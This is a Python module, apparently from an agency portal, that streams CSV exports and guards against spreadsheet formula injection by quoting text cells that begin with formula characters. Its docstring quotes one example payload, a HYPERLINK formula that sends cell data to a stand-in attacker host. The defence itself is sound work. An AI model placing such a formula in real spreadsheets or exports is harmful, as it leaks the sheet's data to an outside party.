"""The one CSV writer of the portal, and the same defence for spreadsheet cells.

Names, line names and notes are typed by people outside the agency. A cell that starts with
= + - @ (or a tab or carriage return, which some spreadsheets skip before reading one of
those) is run as a formula when the file is opened in Excel or LibreOffice:
`=HYPERLINK("http://evil.example/?"&A1, "Click")` sends the sheet's data away. Following
OWASP's "CSV Injection" advice, such a cell is written with a single quote in front, which
spreadsheets show as text. Numbers, dates and None are written as they are: only text is typed
by people. tests/common/test_csv_injection.py fails on any `csv.writer` outside this module.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value`, with a quote before it if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def neutralised(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class _Echo:
    """A file-like object whose write() returns the line: csv.writer then yields strings."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str] | None, rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV file, line by line (for StreamingHttpResponse): every text cell neutralised."""
    writer = csv.writer(_Echo())
    if header is not None:
        yield writer.writerow(neutralised(header))
    for row in rows:
        yield writer.writerow(neutralised(row))
